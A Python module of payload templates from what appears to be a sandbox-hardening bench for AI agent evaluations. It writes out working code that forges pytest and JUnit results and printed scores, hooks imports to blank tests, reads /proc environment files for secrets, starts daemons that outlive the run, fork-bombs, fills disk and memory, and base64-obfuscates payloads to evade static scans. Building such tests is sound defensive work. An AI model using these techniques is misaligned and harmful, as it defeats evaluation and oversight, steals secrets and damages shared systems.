"""The attack code of bench/hostile_code.py, as text: what a hostile candidate puts in the tree or runs.

Data only: nothing here runs in the bench's own process. A template's ``@@NAME@@`` is
replaced by the ``repr`` of a value (`fill`); a body meant to run inside ``calc.py`` at
import is wrapped by `wrap` (a function called in a ``try``, so the tests still run and
whatever it noted comes back in the add tests' failure message).
"""

from __future__ import annotations

import textwrap
from typing import Any

__all__ = ["fill", "wrap"]


def fill(template: str, **values: Any) -> str:
    """``template`` with every ``@@NAME@@`` replaced by ``repr(values[NAME])``."""
    for name, value in values.items():
        template = template.replace(f"@@{name}@@", repr(value))
    if "@@" in template:
        raise ValueError(f"a placeholder is left unfilled in {template[:80]!r}")
    return template


def wrap(body: str) -> str:
    """``body`` as a function run once at import, its exceptions noted (``_note``) instead of raised."""
    return ("if '_note' not in globals():\n    def _note(text):\n        pass\n\n\n"
            "def _hostile_attack():\n    import os\n" + textwrap.indent(textwrap.dedent(body).strip("\n") + "\n", "    ")
            + "\n\ntry:\n    _hostile_attack()\nexcept Exception as _exc:\n    _note('payload error %r' % (_exc,))\n\n\n")


# --------------------------------------------------------------------------- probes: notes that come back

PROBE_HEAD = """\
import os

_NOTES = []


def _note(text):
    _NOTES.append(str(text)[:300])


"""

PROBE_TAIL = """\
def add(a, b):
    raise AssertionError("HOSTILE-NOTES " + " | ".join(_NOTES))


def mul(a, b):
    return a * b
"""

PROBE_PRINT = """\
print("HOSTILE-NOTES " + " | ".join(_NOTES), flush=True)
"""

# --------------------------------------------------------------------------- forging a report

FORGER_CORE = r'''
import os as _os
import re as _re
import sys as _sys


def _hostile_tests():
    found = []
    for folder, dirs, files in _os.walk("tests"):
        dirs.sort()
        for name in sorted(files):
            if not (name.startswith("test_") and name.endswith(".py")):
                continue
            path = _os.path.join(folder, name)
            klass = None
            with open(path, encoding="utf-8") as handle:
                for line in handle:
                    m = _re.match(r"class (\w+)", line)
                    if m:
                        klass = m.group(1)
                        continue
                    m = _re.match(r"(\s*)def (test_\w+)", line)
                    if m:
                        found.append((path.replace(_os.sep, "/"), klass if m.group(1) else None, m.group(2)))
    return found


def _hostile_junit():
    cases = []
    for path, klass, name in _hostile_tests():
        owner = path[:-3].replace("/", ".") + ("." + klass if klass else "")
        cases.append('<testcase classname="%s" name="%s" time="0.001" />' % (owner, name))
    return ('<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" failures="0" '
            'skipped="0" tests="%d" time="0.01">%s</testsuite></testsuites>' % (len(cases), "".join(cases)))


def _hostile_junit_path():
    for arg in _sys.argv:
        for flag in ("--junitxml=", "--junit-xml="):
            if arg.startswith(flag):
                return arg[len(flag):]
    return ".agentdescent/junit.xml"


def _hostile_write_junit():
    path = _hostile_junit_path()
    if _os.path.dirname(path):
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(_hostile_junit())


'''

FORGER_RECORDS = r'''
import json as _json


def _hostile_records(nonce):
    lines = []
    tests = _hostile_tests()
    for seq, (path, klass, name) in enumerate(tests):
        node = "::".join([path] + ([klass] if klass else []) + [name])
        lines.append({"n": nonce, "seq": seq, "node": node, "outcome": "passed", "message": ""})
    lines.append({"n": nonce, "seq": len(tests), "end": True, "exitstatus": 0, "counts": {"passed": len(tests)}})
    return "".join(_json.dumps(x) + "\n" for x in lines).encode()


def _hostile_nonces():
    """32-hex strings anywhere in the interpreter (frames' locals, every dict, list and tuple gc tracks), best first:
    those held under a name with "nonce" in it."""
    import gc
    pattern = _re.compile(r"[0-9a-f]{32}")
    found = {}

    def look(value, key=""):
        if isinstance(value, str) and pattern.fullmatch(value.strip()):
            rank = 0 if "nonce" in str(key).lower() else 1
            found[value.strip()] = min(rank, found.get(value.strip(), 1))

    frame = _sys._getframe()
    while frame is not None:
        for key, value in list(frame.f_locals.items()):
            look(value, key)
        frame = frame.f_back
    for obj in gc.get_objects():
        try:
            if isinstance(obj, dict):
                for key, value in list(obj.items()):
                    look(value, key)
            elif isinstance(obj, (list, tuple)):
                for value in obj:
                    look(value)
        except Exception:
            pass
    return sorted(found, key=lambda v: (found[v], v))


def _hostile_append_fds():
    """The inherited descriptors open for appending only (a results channel looks like that), else every writable one >= 3."""
    import fcntl
    appending = []
    for fd in _hostile_writable_fds(3):
        try:
            if fcntl.fcntl(fd, fcntl.F_GETFL) & _os.O_APPEND:
                appending.append(fd)
        except OSError:
            pass
    return appending or _hostile_writable_fds(3)


def _hostile_writable_fds(low=1):
    import fcntl
    fds = []
    for fd in range(low, 256):
        try:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
        except OSError:
            continue
        if (flags & _os.O_ACCMODE) in (_os.O_WRONLY, _os.O_RDWR):
            fds.append(fd)
    return fds


'''

FORGER_LIB = FORGER_CORE + FORGER_RECORDS
FORGER_LIB_NO_JSON = FORGER_CORE  # for a json.py, which cannot import json

PYTEST_SHADOW = """
_hostile_write_junit()
print("6 passed in 0.01s", flush=True)
_os._exit(0)
"""

JSON_SHADOW = """
_hostile_write_junit()
_os._exit(0)
"""

REPORT_PATCH = """
import _pytest.reports as reports

original = reports.TestReport.__init__


def forged_init(self, *args, **kwargs):
    original(self, *args, **kwargs)
    if self.outcome == "failed":
        self.outcome = "passed"
        self.longrepr = None


reports.TestReport.__init__ = forged_init
_note("TestReport patched")
"""

HOOK_WRAPPER = """
import gc

import pytest
from _pytest.config import PytestPluginManager


class Forger:
    @pytest.hookimpl(wrapper=True, tryfirst=True)
    def pytest_runtest_makereport(self, item, call):
        report = yield
        if report.outcome == "failed":
            report.outcome = "passed"
            report.longrepr = None
        return report


for obj in gc.get_objects():
    if isinstance(obj, PytestPluginManager):
        obj.register(Forger(), name="hostile-forger")
        _note("wrapper registered")
        break
"""

ATEXIT_JUNIT_FDS = r"""
import atexit
import re

nonces = _hostile_nonces()


def at_exit():
    path = _hostile_junit_path()
    try:
        with open(path, encoding="utf-8") as handle:
            text = handle.read()
        text = re.sub(r"<failure\b.*?</failure>|<failure\b[^>]*/>", "", text, flags=re.S)
        text = re.sub(r'failures="\d+"', 'failures="0"', text)
    except OSError:
        text = _hostile_junit()
    try:
        with open(path, "w", encoding="utf-8") as handle:
            handle.write(text)
    except OSError:
        try:
            with open(path + ".new", "w", encoding="utf-8") as handle:
                handle.write(text)
            os.replace(path + ".new", path)
        except OSError:
            pass
    data = b"".join(_hostile_records(n) for n in (nonces or ["0" * 32])[:8])
    for fd in _hostile_writable_fds():
        try:
            os.write(fd, data)
        except OSError:
            pass


atexit.register(at_exit)
"""

CHANNEL_FORGERY = """
nonces = _hostile_nonces()
data = _hostile_records((nonces or ["0" * 32])[0])
for fd in _hostile_append_fds():
    try:
        os.write(fd, data)
    except OSError:
        pass
os._exit(0)
"""

REPORTER_PATCH = """
import gc

reporter = None
for obj in gc.get_objects():
    try:
        if not isinstance(obj, type) and hasattr(obj, "_nonce") and hasattr(obj, "_emit") and hasattr(obj, "_counts"):
            reporter = obj
            break
    except Exception:
        pass
if reporter is not None:
    emit = reporter._emit

    def forged_emit(record):
        if record.get("outcome") in ("failed", "error"):
            record = dict(record, outcome="passed", message="")
        if record.get("end"):
            counts = dict(record.get("counts", {}))
            counts["passed"] = counts.get("passed", 0) + counts.pop("failed", 0) + counts.pop("error", 0)
            emit(dict(record, exitstatus=0, counts=counts))
            os._exit(0)
        return emit(record)

    reporter._emit = forged_emit  # on the instance: no module or class of the runner changes
    _note("the runner's reporter patched")
else:
    _note("no reporter found")
"""

JUNIT_THEN_EXIT = """
_hostile_write_junit()
os._exit(0)
"""

REWRITE_OTHER_TEST = """
import importlib.util

target = os.path.join("tests", "test_sum.py")
names = ["test_small", "test_zero", "test_negative", "test_large"]
fake = "class TestAdd:\\n" + "".join("    def %s(self):\\n        pass\\n\\n" % n for n in names)


def write_direct():
    with open(target, "w") as handle:
        handle.write(fake)


def replace():
    new = os.path.join("tests", ".hostile-new.py")
    with open(new, "w") as handle:
        handle.write(fake)
    os.replace(new, target)


def unlink_and_write():
    os.unlink(target)
    write_direct()


def chmod_and_write():
    os.chmod(target, 0o666)
    write_direct()


def plant_pyc():
    from _pytest.assertion import rewrite

    with open(target, "rb") as handle:
        source = handle.read()
    code = compile(fake, os.path.abspath(target), "exec", dont_inherit=True)
    cache = os.path.join("tests", "__pycache__")
    os.makedirs(cache, exist_ok=True)
    with open(os.path.join(cache, "test_sum" + rewrite.PYC_TAIL), "wb") as handle:
        rewrite._write_pyc_fp(handle, importlib.util.source_hash(source), code)


for label, action in (("write", write_direct), ("replace", replace), ("unlink", unlink_and_write),
                      ("chmod", chmod_and_write), ("pyc", plant_pyc)):
    try:
        action()
        _note(label + " ok")
        break
    except Exception as exc:
        _note("%s: %s" % (label, getattr(exc, "strerror", None) or exc))
"""

IMPORT_HOOK = """
import sys


def noop(*args, **kwargs):
    return None


def blank(module):
    for key, value in list(vars(module).items()):
        if key.startswith("test") and callable(value) and not isinstance(value, type):
            setattr(module, key, noop)
        elif isinstance(value, type) and key.startswith("Test"):
            for attr in list(vars(value)):
                if attr.startswith("test"):
                    setattr(value, attr, noop)


class Loader:
    def __init__(self, inner):
        self.inner = inner

    def create_module(self, spec):
        return self.inner.create_module(spec)

    def exec_module(self, module):
        self.inner.exec_module(module)
        blank(module)


class Finder:
    def find_spec(self, name, path=None, target=None):
        if not name.rsplit(".", 1)[-1].startswith("test_"):
            return None
        for finder in sys.meta_path:
            if finder is self or not hasattr(finder, "find_spec"):
                continue
            spec = finder.find_spec(name, path, target)
            if spec is not None:
                if spec.loader is not None:
                    spec.loader = Loader(spec.loader)
                return spec
        return None


sys.meta_path.insert(0, Finder())
_note("import hook installed")
"""

# --------------------------------------------------------------------------- forging a printed score

ATEXIT_SCORE = """\
import atexit as _atexit

_atexit.register(lambda: print("1.0", flush=True))


"""

PRINT_THEN_EXIT = """\
import os as _os

print('{"score": 1.0}', flush=True)
_os._exit(0)


"""

STDOUT_HIJACK = r"""import re as _re
import sys as _sys


class _Rewriter:
    def __init__(self, inner):
        self.inner = inner

    def write(self, text):
        return self.inner.write(_re.sub(r"^\s*-?[0-9][0-9.]*(e-?[0-9]+)?\s*$", "1.0", text, flags=_re.M))

    def __getattr__(self, name):
        return getattr(self.inner, name)


_sys.stdout = _Rewriter(_sys.stdout)


"""

# --------------------------------------------------------------------------- metadata and files outside

CHMOD = """
for path in @@TARGETS@@:
    try:
        os.chmod(path, @@MODE@@)
        _note("chmod %s ok" % path)
    except OSError as exc:
        _note("chmod %s: %s" % (os.path.basename(path), exc.strerror))
"""

UTIME = """
for path in @@TARGETS@@:
    for times in ((0, 0), None):
        try:
            os.utime(path, times)
            _note("utime %s %s ok" % (path, times))
        except OSError as exc:
            _note("utime %s: %s" % (os.path.basename(path), exc.strerror))
"""

SETXATTR = """
for path in @@TARGETS@@:
    for name in ("user.hostile", "trusted.hostile", "security.hostile"):
        try:
            os.setxattr(path, name, b"1")
            _note("setxattr %s %s ok" % (path, name))
        except OSError as exc:
            _note("setxattr %s %s: %s" % (os.path.basename(path), name, exc.strerror))
"""

WRITE_FILES = """
for path in @@TARGETS@@:
    try:
        with open(path, "w") as handle:
            handle.write("planted\\n")
        _note("wrote " + path)
    except OSError as exc:
        _note("%s: %s" % (path, exc.strerror))
"""

OTHER_ROOT = """
import tempfile

own = os.path.dirname(os.getcwd())
found = set()
for folder in sorted({tempfile.gettempdir(), "/tmp", "/var/tmp", os.path.dirname(own)}):
    try:
        names = os.listdir(folder)
    except OSError as exc:
        _note("list %s: %s" % (folder, exc.strerror))
        continue
    hits = [os.path.join(folder, n) for n in names if n.startswith("agentdescent-")]
    _note("list %s: %d entries, %d agentdescent-*" % (folder, len(names), len(hits)))
    found.update(hits)
victim = @@VICTIM@@
if victim:
    found.add(victim)
for root in sorted(found):
    if root == own:
        continue
    actions = (
        ("read", lambda: _note("read " + open(os.path.join(root, "work", "precious.txt")).read())),
        ("list", lambda: _note("listed %s" % os.listdir(os.path.join(root, "work")))),
        ("write", lambda: open(os.path.join(root, "work", "evil.txt"), "w").write("x")),
        ("chmod", lambda: os.chmod(root, 0)),
    )
    for label, action in actions:
        try:
            action()
            _note("%s %s ok" % (label, os.path.basename(root)))
        except OSError as exc:
            _note("%s %s: %s" % (label, os.path.basename(root), exc.strerror))
"""

# --------------------------------------------------------------------------- secrets

READ_FILES = """
for path in @@PATHS@@:
    try:
        with open(path, errors="replace") as handle:
            _note("%s => %s" % (path, handle.read(200)))
    except OSError as exc:
        _note("%s: %s" % (path, exc.strerror))
"""

ENVIRON = r"""
import glob
import re

name = @@NAME@@
texts = [repr(dict(os.environ))]
paths = ["/proc/self/environ", "/proc/%d/environ" % os.getppid(), "/proc/1/environ"]
paths += sorted(glob.glob("/proc/[0-9]*/environ"))
readable = 0
for path in dict.fromkeys(paths):
    try:
        with open(path, "rb") as handle:
            texts.append(handle.read().decode("latin-1"))
            readable += 1
    except OSError:
        pass
found = set()
for text in texts:
    found.update(re.findall(re.escape(name) + r"=([^\x00\s',}]+)", text))
    found.update(re.findall(re.escape(name) + r"': '([^']+)'", text))
_note("%d of %d environ files readable (%d pids visible, ppid %d); the key: %s"
      % (readable, len(set(paths)), len(glob.glob("/proc/[0-9]*")), os.getppid(), sorted(found) or "not found"))
"""

# --------------------------------------------------------------------------- sockets

SOCKETS = """
import socket

for kind, address in @@TARGETS@@:
    family = socket.AF_UNIX if kind == "unix" else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(2)
    try:
        sock.connect(address if kind == "unix" else tuple(address))
        sock.sendall(@@MARK@@.encode())
        _note("connected to %r" % (address,))
    except OSError as exc:
        _note("%r: %s" % (address, exc.strerror or exc))
    finally:
        sock.close()
"""

# --------------------------------------------------------------------------- processes

DAEMON = """
import sys

pid = os.fork()
if pid == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True:\\n    time.sleep(0.2)",
                                      @@MARK@@ + "-daemon"])
    finally:
        os._exit(0)
os.waitpid(pid, 0)
_note("daemon started")
"""

KILLED_DRIVER_CMD = """\
import os, sys, time
mark = @@MARK@@
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time\\nwhile True:\\n    time.sleep(0.2)",
                                  mark + "-killed-daemon"])
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(60)
"""

SHM_HOLDER = """\
import os, sys, time
mark = @@MARK@@
path = "/dev/shm/hostile-" + mark
r, w = os.pipe()
pid = os.fork()
if pid == 0:
    os.setsid()
    try:
        chunk = b"\\1" * (4 << 20)
        for part in range(3):  # 3 x 60 MB: each file under the sandbox's file_mb
            with open("%s-%d" % (path, part), "wb") as handle:
                for _ in range(15):
                    handle.write(chunk)
        os.write(w, b"ok")
    except OSError as exc:
        os.write(w, ("error %s" % exc).encode())
    os.execv(sys.executable, [sys.executable, "-c", "import sys, time\\nf = open(sys.argv[1], 'rb')\\nwhile True:\\n"
                              "    time.sleep(0.2)", path + "-0", mark + "-shm-holder"])
said = os.read(r, 200).decode()
sizes = [os.path.getsize("%s-%d" % (path, i)) >> 20 for i in range(3) if os.path.exists("%s-%d" % (path, i))]
print("child said", said, "MB held", sizes, flush=True)
"""

# --------------------------------------------------------------------------- removal

NESTED = """
depth, hostile, escape = @@DEPTH@@, @@HOSTILE@@, @@ESCAPE@@
fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
made = 0
try:
    for i in range(depth):
        name = "nest%04d" % i if hostile else "nest"
        os.mkdir(name, dir_fd=fd)
        child = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        if hostile and made:
            os.fchmod(fd, 0)
        os.close(fd)
        fd = child
        made += 1
    if hostile:
        os.mkfifo("fifo", dir_fd=fd)
        if escape:
            os.symlink(escape, "escape", dir_fd=fd)
        with open(os.open("file-with-\\nnewline", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd), "w") as handle:
            handle.write("x")
finally:
    os.close(fd)
    _note("nested %d" % made)
"""

# --------------------------------------------------------------------------- limits

MEMORY = """\
import subprocess, sys
mark = @@MARK@@
child = ("import sys, time\\nb = b'\\\\x01' * %d\\nprint('held', flush=True)\\ntime.sleep(4)\\nprint('done', flush=True)"
         % @@BYTES@@)
procs = [subprocess.Popen([sys.executable, "-c", child, mark + "-mem-child"], stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL, text=True) for _ in range(@@CHILDREN@@)]
outs = [p.communicate()[0] for p in procs]
print("held=%d done=%d codes=%s" % (sum("held" in o for o in outs), sum("done" in o for o in outs),
                                     [p.returncode for p in procs]), flush=True)
"""

FORK_BOMB = """\
import os, time
limit = @@LIMIT@@
forked, error = 0, ""
for _ in range(limit - 1):
    try:
        pid = os.fork()
    except OSError as exc:
        error = exc.strerror or str(exc)
        break
    if pid == 0:
        time.sleep(8)
        os._exit(0)
    forked += 1
print("forked=%d error=%s" % (forked, error), flush=True)
time.sleep(0.5)
os._exit(0)
"""

DISK = """\
import os
total, error = 0, ""
chunk = b"\\0" * (4 << 20)
folders = [os.environ.get(w, w) for w in @@WHERE@@]
for i in range(12):
    folder = folders[i % len(folders)]
    try:
        with open(os.path.join(folder, "fill%02d" % i), "wb") as handle:
            for _ in range(15):
                handle.write(chunk)
                handle.flush()
                total += len(chunk)
    except OSError as exc:
        error = exc.strerror or str(exc)
        break
print("written=%d error=%s" % (total >> 20, error), flush=True)
"""

# --------------------------------------------------------------------------- hiding a payload from a static reading

OBFUSCATED = """\
import base64 as _b64
import code as _code

_code.InteractiveInterpreter({"__name__": "calc_helpers"}).runsource(_b64.b64decode(@@SOURCE@@).decode(), "<helpers>", "exec")


"""


def obfuscate(source: str) -> str:
    """``source`` run through `code.InteractiveInterpreter` from base64 text: no name a static scan looks for is left."""
    import base64

    return fill(OBFUSCATED, SOURCE=base64.b64encode(source.encode()))


DROPPED = """\
import base64 as _b64
import os as _os
import sys as _sys

_folder = _os.environ.get("TMPDIR") or _os.environ.get("HOME") or "."
with open(_os.path.join(_folder, "calc_helpers_rt.py"), "w") as _handle:
    _handle.write(_b64.b64decode(@@SOURCE@@).decode())
_sys.path.insert(0, _folder)
import calc_helpers_rt  # noqa: E402,F401


"""


def drop_module(source: str) -> str:
    """``source`` written at run time, from base64 text, as a module in the sandbox's TMPDIR (work/ is not writable),
    put on ``sys.path`` and imported: the scan reads only the base64 text and names it does not flag."""
    import base64

    return fill(DROPPED, SOURCE=base64.b64encode(source.encode()))
